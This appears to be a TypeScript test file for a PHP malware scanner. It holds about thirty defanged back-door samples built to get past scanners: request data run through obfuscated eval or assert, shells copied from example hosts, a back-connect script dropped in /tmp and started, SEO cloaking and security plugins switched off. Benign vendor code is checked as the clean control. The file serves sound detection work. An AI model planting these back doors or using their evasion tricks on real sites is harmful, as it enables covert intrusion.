// Back doors written to slip past scanners, as the public bypass collections spell them: a
// function handed to an object to call later (an ArrayObject's sort, an SQLite function, PDO's
// FETCH_FUNC, a ReflectionFunction), a superglobal named at run time (`${'_' . $x}`), code a
// create_function builds from pieces, numbers XORed into character codes, a reference to a
// function name, eval of text appended piece by piece, a variable that reads itself unset, an
// array filled with `$a[] =`, a file decoder that reassigns its parameter, a function name kept
// in a doc comment, a script copied from another host as PHP, yaml_parse's tag callbacks, request
// data written to a file that is then included, names taken from array_keys, code written
// without letters, SEO spam's cloaking, security plugins turned off, a paste site's payload
// fetched, and a back-connect script dropped in /tmp and started. Defanged samples written here (the commands are `id`), beside vendor code
// that uses the same calls for their everyday work.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import { analysePhp } from '../../../src/integrity/scan/php-analysis.ts';
import { loadCodeRules } from '../../../src/integrity/scan/rules.ts';
import { scanContent } from '../../../src/integrity/scan/scanner.ts';

const rules = loadCodeRules();
const ruleIds = (text: string) => scanContent(text, { path: 'x.php', rel: 'x.php' }, rules).map((f) => f.rule);

// What a packer's own decoder undoes: deflate, base64, then each byte shifted up by one.
const packed = (code: string) =>
  deflateRawSync(
    Buffer.from([...code].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''), 'latin1'),
  ).toString('base64');

const b64 = (s: string) => Buffer.from(s).toString('base64');

const backdoors: [string, string][] = [
  [
    'an ArrayObject sorted by assert',
    `<?php\n$a = new ArrayObject(array('x', $_REQUEST['p']));\n$a->uasort('assert');\n`,
  ],
  [
    'keys sorted by assert',
    `<?php\n$a = new ArrayIterator(array($_POST['p'] => 1, 'x' => 2));\n$a->uksort('assert');\n`,
  ],
  [
    'an SQLite function the request names',
    `<?php\n$e = $_REQUEST['e'];\n$db = new SQLite3(':memory:');\n$db->createFunction('f', $e);\n$st = $db->prepare('SELECT f(?)');\n$st->bindValue(1, $_REQUEST['p']);\n$st->execute();\n`,
  ],
  [
    "PDO's FETCH_FUNC with a rot13'd assert",
    `<?php\n$db = new PDO('sqlite::memory:');\n$st = $db->query("SELECT 'x'");\n$st->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));\n`,
  ],
  [
    'a ReflectionFunction of assert invoked on the request',
    `<?php\n$r = new ReflectionFunction('assert');\n$r->invoke($_POST['c']);\n`,
  ],
  [
    'a ReflectionFunction of system invoked with arguments',
    `<?php\n$r = new ReflectionFunction('system');\necho $r->invokeArgs(array("$_GET[c]"));\n`,
  ],
  ['a superglobal named at run time', `<?php\n\${'_' . $_}['_'](\${'_' . $_}['__']);\n`],
  [
    'create_function of code written in pieces',
    `<?php\n$f = create_function('', 'ev' . 'al' . '($_' . 'GET' . '["c"]);');\n$f();\n`,
  ],
  [
    'character codes XORed',
    `<?php\n$a = chr(96^5) . chr(57^79) . chr(15^110) . chr(58^86);\n@assert($a . '($_REQUEST[c])');\n`,
  ],
  [
    'a reference to a decoded function name',
    `<?php\nfunction h($u) { $b = 's' . 'tr_r' . 'ot13'; $c = &$b; $a = $c('nffreg'); $a($u); }\nh($_POST['c']);\n`,
  ],
  [
    'eval of text appended piece by piece',
    `<?php\n$t = "ev";\n$t .= "al(";\n$t .= "\\$_PO";\n$t .= "ST[1]);";\neval($t);\n`,
  ],
  [
    'a name built on a variable that reads itself unset',
    `<?php\n$k = $k . substr('xxxxcreate_func', 4, 11);\n$k = $k . 'tion';\n$d = $d . 'base64' . '_decode';\n$f = $k('', $d('${b64('eval($_POST[1]);')}'));\n$f();\n`,
  ],
  [
    'functions named by an array filled with []',
    `<?php\n$v = 'abcdefghijklmnopqrstuvwxyz';\n$t[] = $v{18} . $v{19} . $v{17} . $v{11} . $v{4} . $v{13};\n$t[] = $v{2} . $v{17} . $v{4} . $v{0} . $v{19} . $v{4} . '_' . $v{5} . $v{20} . $v{13} . $v{2} . $v{19} . $v{8} . $v{14} . $v{13};\n$p = $_POST['p'];\n$g = $t[1]('', $p);\n$g();\n`,
  ],
  [
    'a decoder that reassigns its parameter, its result run',
    `<?php\nfunction d($s) {\n  $s = gzinflate(base64_decode($s));\n  for ($i = 0; $i < strlen($s); $i++) {\n    $s[$i] = chr(ord($s[$i]) - 1);\n  }\n  return $s;\n}\neval(d("${packed('system($_GET["c"]);')}"));\n`,
  ],
  [
    'a function name kept in a doc comment',
    `<?php\n/**\n * assert\n */\nclass T {}\n$r = new ReflectionClass('T');\n$s = $r->getDocComment();\n$f = substr($s, 7, 6);\n$f($s);\n`,
  ],
  ['a script copied from another host as PHP', `<?php\ncopy('http://example.invalid/shell.txt', 'x.php');\n`],
  [
    'yaml_parse handing a tag the request names to preg_replace',
    `<?php\n$y = "a: !{$_REQUEST['t']} \\"|.+|e\\"";\nyaml_parse($y, 0, $n, array("!{$_REQUEST['t']}" => 'preg_replace'));\n`,
  ],
  [
    'request data written into an .html file, then included',
    `<?php\n$c = base64_decode($_GET['c']);\nfile_put_contents('style.html', "<?php\\n");\nfile_put_contents('style.html', $c, FILE_APPEND);\nrequire 'style.html';\n`,
  ],
  [
    "a function's name taken from an array's keys",
    `<?php\n$p = array('a' => 1, 's' => 2, 'e' => 3, 'r' => 4, 't' => 5);\n$k = array_keys($p);\n$f = $k[0] . $k[1] . $k[1] . $k[2] . $k[3] . $k[4];\n$f(base64_decode($_POST['q']));\n`,
  ],
  [
    'code written without letters',
    `<?php\n$_ = [];\n$_ = @"$_";\n$_ = $_['!' == '@'];\n$__ = $_;\n${'$__++;'.repeat(18)}\n$___ = $__;\n${'$___++;'.repeat(12)}\n$____ = $_ . $__ . $___;\n$_____ = $___ . $__;\n$____($_____);\n`,
  ],
  [
    'SEO spam cloaking: crawlers served remote pages, searchers redirected',
    `<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\n$ref = $_SERVER['HTTP_REFERER'];\nif (stripos($ua, 'Googlebot') !== false) {\n  echo file_get_contents('http://spam.example.invalid/p.php?' . $_SERVER['HTTP_HOST']);\n  exit;\n}\nif (strpos(strtolower($ref), 'google') !== false) {\n  echo '<script>document.location="http://spam.example.invalid/";</script>';\n  exit;\n}\n`,
  ],
  [
    "two security plugins' scans emptied and alerts turned off",
    `<?php\nfunction k() {\n  $o = get_option('itsec_file_change');\n  $o['enabled'] = false;\n  update_option('itsec_file_change', $o);\n  mysql_query("update wp_wfConfig set val = '*.php' where name = 'scan_exclude'");\n}\n`,
  ],
  [
    "a paste site's raw text written into the site",
    `<?php\n$t = file_get_contents('https://pastebin.com/raw/XXXXXXXX');\nfile_put_contents($_SERVER['DOCUMENT_ROOT'] . '/x.html', $t);\n`,
  ],
  [
    'a back-connect script written to /tmp and started',
    `<?php\n$s = 'IyEvdXNyL2Jpbi9wZXJsCg==';\n$fp = fopen('/tmp/.bc', 'w');\nfputs($fp, base64_decode($s));\nfclose($fp);\nsystem('perl /tmp/.bc 192.0.2.1 4444 &');\n`,
  ],
  [
    'a name spliced with substr_replace',
    `<?php\n$f = substr_replace('aert', 'ss', 1, 0);\narray_map($f, array($_POST['y']));\n`,
  ],
  [
    "preg_replace's name assigned inside urldecode's argument, /e behind a colon",
    `<?php\n$___ = urldecode($_ = '%70%72%65%67%5F%72' . $__ = '%65%70%6C%61%63%65');\n$___("::\\x65", "\\x65\\x76\\x61\\x6C\\x28\\x24\\x5F\\x50\\x4F\\x53\\x54\\x5B\\x31\\x5D\\x29", '');\n`,
  ],
  [
    "a command line run through Windows' shell object",
    `<?php\n$w = new COM('WScript.Shell');\n$e = $w->exec('cmd.exe /c ' . $_GET['c']);\necho $e->StdOut->ReadAll();\n`,
  ],
  [
    "the page's output captured by ob_start's closure into a global, then asserted",
    `<?php\n$e = '';\nob_start(function ($c, $d) { global $e; $e = $c; });\necho $_REQUEST['p'];\nob_end_flush();\nassert($e);\n`,
  ],
  [
    "the page's output captured by a named ob_start callback, then asserted",
    `<?php\n$e = '';\nfunction keep($c, $d) { global $e; $e = $c; }\nob_start('keep');\necho $_REQUEST['p'];\nob_end_flush();\nassert($e);\n`,
  ],
  [
    "ob_start's callback built from the request in a loop",
    `<?php\n$id = $_GET['id'];\n$s = '';\nforeach (array($id) as $v) { $s .= $v; }\nob_start($s);\necho $_GET['c'];\nob_end_flush();\n`,
  ],
];

const vendor: [string, string][] = [
  ['an ArrayObject sorted by a comparison', `<?php\n$a = new ArrayObject($_POST['items']);\n$a->uasort('strcmp');\n`],
  [
    'an SQLite function of the application',
    `<?php\n$db = new SQLite3('app.db');\n$db->createFunction('regexp', 'preg_match', 2);\n$db->query('SELECT 1');\n`,
  ],
  [
    'rows fetched into objects',
    `<?php\n$st = $pdo->prepare('SELECT * FROM t WHERE id = ?');\n$st->execute([$_GET['id']]);\n$rows = $st->fetchAll(PDO::FETCH_ASSOC);\n`,
  ],
  [
    "reflection reading a controller's doc comment",
    `<?php\n$r = new ReflectionMethod($controller, $action);\n$doc = $r->getDocComment();\nif (strpos($doc, '@admin') !== false) { $this->requireAdmin(); }\n`,
  ],
  ['a ReflectionFunction of a closure', `<?php\n$r = new ReflectionFunction($handler);\n$r->invokeArgs([$request]);\n`],
  ['a media file copied locally', `<?php\ncopy('http://cdn.example.com/logo.png', 'media/logo.png');\n`],
  [
    'a request method picked by name',
    `<?php\n$method = 'GET';\n$data = \${'_' . $method};\necho htmlspecialchars($data['q'] ?? '');\n`,
  ],
  [
    'yaml_parse with a callback of its own',
    `<?php\nfunction money($v) { return (float) $v; }\n$d = yaml_parse($text, 0, $n, array('!money' => 'money'));\n`,
  ],
  [
    'a prerendering service for crawlers',
    `<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n  echo file_get_contents('https://service.prerender.example/' . $url);\n  exit;\n}\n`,
  ],
  [
    'a landing message for search visitors',
    `<?php\nif (strpos($_SERVER['HTTP_REFERER'] ?? '', 'google.') !== false) { echo '<p>Welcome, searcher</p>'; }\n`,
  ],
  [
    'a security plugin keeping its own state',
    `<?php\nfunction wf_reset() { global $wpdb; $wpdb->query("truncate {$wpdb->prefix}wfIssues"); update_option('wf_last_scan', time()); }\n`,
  ],
  [
    'a report written to /tmp and mailed',
    `<?php\n$csv = base64_decode($blob);\nfile_put_contents('/tmp/report.csv', $csv);\nexec('gzip -k ' . escapeshellarg('/tmp/report.csv'));\n`,
  ],
  [
    'a JSON-RPC server calling the method a request names on its object',
    `<?php\n$request = json_decode(file_get_contents('php://input'), true);\n$result = call_user_func_array(array($object, $request['method']), $request['params']);\n`,
  ],
  [
    "an encoder's virtual machine keeping references to the superglobals in its registers",
    `<?php\nswitch ($op) {\n  case '_GET': $r[$sp] = &$_GET; break;\n  case '_POST': $r[$sp] = &$_POST; break;\n}\neval($r[$sp - 1]);\n`,
  ],
  [
    'an Office document opened through COM',
    `<?php\n$word = new COM('Word.Application');\n$word->Documents->Open($path);\n$word->run('Normal.Macro1');\n`,
  ],
  [
    "a page cache filled by ob_start's callback",
    `<?php\nob_start(function ($html) { global $page; $page = $html; return $html; });\necho htmlspecialchars($_GET['q']);\nob_end_flush();\nfile_put_contents('var/cache/page.html', $page);\n`,
  ],
  ['a table of numbers', `<?php\nreturn [${Array.from({ length: 80 }, (_, i) => i * 7).join(', ')}];\n`],
  [
    'a list built in a loop and printed',
    `<?php\n$s = '';\nforeach ($_GET['tags'] as $t) { $s .= htmlspecialchars($t) . ', '; }\necho $s;\n`,
  ],
  ['a string appended and printed', `<?php\n$html = '<ul>';\n$html .= '<li>a</li>';\n$html .= '</ul>';\necho $html;\n`],
];

describe('back doors written to pass scanners', () => {
  for (const [name, code] of backdoors)
    it(`${name} is found`, () => {
      const ids = ruleIds(code);
      assert.ok(ids.length > 0, `${name}: nothing found`);
    });
  it('the families are named for what they are, not only for what else the code does', () => {
    // (the analyser's own reasons: the scanner reports a file once per line, under its strongest rule)
    const rulesOf = (prefix: string) =>
      analysePhp(backdoors.find(([name]) => name.startsWith(prefix))?.[1] ?? '').signals.map((sig) => sig.id);
    assert.ok(rulesOf("a function's name taken from").includes('php-hidden-callee'));
    assert.ok(rulesOf('SEO spam cloaking').includes('php-search-redirect'));
    assert.ok(rulesOf('SEO spam cloaking').includes('php-bot-cloaking'));
    assert.ok(rulesOf('a back-connect script').includes('php-runs-dropped-file'));
  });
  it("the decoder's output is read: the shell it runs is named, not only the packing", () => {
    const decoder = backdoors.find(([name]) => name.startsWith('a decoder that reassigns'))?.[1] ?? '';
    assert.ok(ruleIds(decoder).includes('php-request-to-shell'), ruleIds(decoder).join(', '));
  });
  it('vendor code using the same calls for everyday work is clean', () => {
    for (const [name, code] of vendor) assert.deepEqual(ruleIds(code), [], name);
  });
});
